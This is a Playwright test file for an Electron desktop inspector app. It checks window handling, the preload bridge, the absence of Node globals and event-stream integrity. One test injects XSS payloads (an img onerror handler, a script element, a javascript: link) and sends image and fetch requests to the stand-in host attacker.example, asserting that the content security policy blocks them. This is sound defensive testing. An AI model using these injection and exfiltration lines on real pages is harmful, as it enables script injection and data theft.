import { existsSync } from "node:fs";
import { appendFile, readdir } from "node:fs/promises";
import { join } from "node:path";
import { test as base } from "@playwright/test";
import { startDesktop } from "./app/desktop.ts";
import { expect, test } from "./app/test.ts";
import { openWorkspace } from "./app/workspace.ts";

// The built main and preload scripts and the real page, with a stand-in where Electron's runtime would be.

test("a folder on the command line opens in the window, and everything on the page works over its messages", async ({
  page,
  workspace,
}) => {
  await using desktop = await startDesktop(page, workspace, await workspace.sample("aurora-library"));
  await expect(page).toHaveTitle(/^Verified · Overview – Aurora Station Library/);
  expect(desktop.preferences).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false });
  await page.getByRole("navigation", { name: "Screens" }).getByRole("link", { name: "Resources" }).click();
  await expect(page.getByRole("grid", { name: "Resources" })).toBeVisible();
  expect(desktop.said()).toBe("");
});

test("the page has the contract and nothing of Node", async ({ page, workspace }) => {
  await using _desktop = await startDesktop(page, workspace);
  await expect(page.getByRole("heading", { name: "Samples" })).toBeVisible();
  const found = await page.evaluate(async () => {
    const carrier: unknown = Reflect.get(window, "semiont");
    const heard: unknown[][] = [];
    const listen: unknown = Reflect.get(Object(carrier), "listen");
    if (typeof listen === "function") listen((...values: unknown[]) => heard.push(values));
    window.dispatchEvent(
      new CustomEvent("stand-in:push", {
        detail: { channel: "semiont:push", values: ["views.changed", { stateFolder: "x" }] },
      }),
    );
    const names = ["require", "process", "Buffer", "module", "global", "__dirname", "ipcRenderer", "electron"];
    return { keys: Object.keys(Object(carrier)).sort(), node: names.filter((name) => name in window), heard };
  });
  expect(found.keys).toEqual(["call", "listen", "onConnection"]);
  expect(found.node).toEqual([]);
  expect(found.heard).toEqual([["views.changed", { stateFolder: "x" }]]);
});

// Without the watch for complaints: the browser is meant to complain here.
base("what gets into the page does not run, and takes nothing out of it", async ({ page }) => {
  await using workspace = await openWorkspace();
  await using _desktop = await startDesktop(page, workspace);
  await expect(page.getByRole("heading", { name: "Samples" })).toBeVisible();
  const found = await page.evaluate(async () => {
    const directives = new Set<string>();
    let seen: (() => void) | undefined;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      directives.add(effectiveDirective);
      seen?.();
    });
    const refused: string[] = [];
    const attempts: Record<string, () => unknown> = {
      markup: () => {
        document.body.innerHTML = "<img src=x onerror='window.pwned = true'>";
      },
      script: () => {
        document.head.append(Object.assign(document.createElement("script"), { text: "window.pwned = true" }));
      },
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        attempt();
      } catch {
        refused.push(name);
      }
    }
    const image = new Image();
    image.src = "https://attacker.example/?secret";
    const link = Object.assign(document.createElement("a"), { href: "javascript:window.pwned = true" });
    document.body.append(link);
    link.click();
    await fetch("https://attacker.example/").catch(() => refused.push("fetch"));
    while (!(directives.has("img-src") && directives.has("connect-src") && directives.has("script-src-elem"))) {
      await new Promise<void>((wake) => {
        seen = wake;
      });
    }
    return { refused, ran: "pwned" in window };
  });
  expect(found).toEqual({ refused: ["markup", "script", "fetch"], ran: false });
});

test("a second launch leads the window, and appended events arrive", async ({ page, workspace }) => {
  const folder = await workspace.sample("aurora-library");
  await using desktop = await startDesktop(page, workspace, folder);
  await expect(page).toHaveTitle(/^Verified/);
  const id = /#\/p\/([^/]+)\//.exec(page.url())?.[1] ?? "";
  desktop.launchAgain(`semiont-inspector://inspector/#/p/${id}/timeline`);
  await expect(page.getByRole("treegrid", { name: "Events" })).toBeVisible();

  const events = join(folder, ".semiont", "events");
  const [stream = ""] = (await readdir(events, { recursive: true })).filter((name) => name.endsWith(".jsonl"));
  expect(existsSync(join(events, stream))).toBe(true);
  await appendFile(join(events, stream), '{"no event":true}\n');
  await expect(page).toHaveTitle(/^Suspect/);
});
